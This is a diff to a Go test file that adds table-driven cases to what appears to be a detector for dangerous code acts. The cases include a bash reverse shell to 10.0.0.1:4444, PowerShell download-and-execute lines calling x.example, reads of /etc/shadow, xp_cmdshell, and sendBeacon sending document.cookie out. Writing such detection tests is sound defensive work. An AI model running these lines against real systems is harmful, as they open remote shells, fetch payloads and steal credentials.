@@ -41,6 +41,12 @@ func TestCodeActs(t *testing.T) {
 		{"``` require('child_process').execSync('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1') ```", keyError, 3, true},
 		{"``` IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1') ```", keyError, 2, true},
 		{"``` cat /etc/shadow ```", keyError, 1, true},
+		{"``` out, _ := exec.Command(\"sh\", \"-c\", cmd).Output() ```", keyError, 1, true},
+		{"``` EXEC xp_cmdshell 'whoami' ```", keyError, 1, true},
+		{"``` Invoke-WebRequest http://x.example/a.exe -OutFile a.exe ```", keyError, 1, true},
+		{"``` $c = New-Object System.Net.Sockets.TCPClient('10.0.0.1', 443) ```", keyError, 1, true},
+		{"``` const s = net.connect(4444, host); navigator.sendBeacon(u, document.cookie) ```", keyError, 2, true},
+		{"The audit found changes to /etc/passwd last week.", keyError, 1, true}, // a path counts in prose too
 		// a task that speaks of the act in words of its own, or only in
 		// English words that are also calls' names
 		{"``` import pyperclip\ntext = pyperclip.paste() ```", "How do I read what is on the clipboard?", 1, false},
